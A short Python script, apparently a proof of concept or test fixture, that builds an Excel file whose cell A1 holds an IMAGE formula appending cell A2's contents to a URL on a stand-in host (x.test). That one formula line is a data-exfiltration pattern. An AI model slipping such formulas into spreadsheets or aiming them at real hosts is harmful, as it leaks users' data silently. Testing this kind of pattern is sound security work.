import openpyxl

book = openpyxl.Workbook()
sheet = book.active
sheet["A1"] = '=_xlfn.IMAGE("http://x.test/"&A2)'
book.save("x.xlsx")
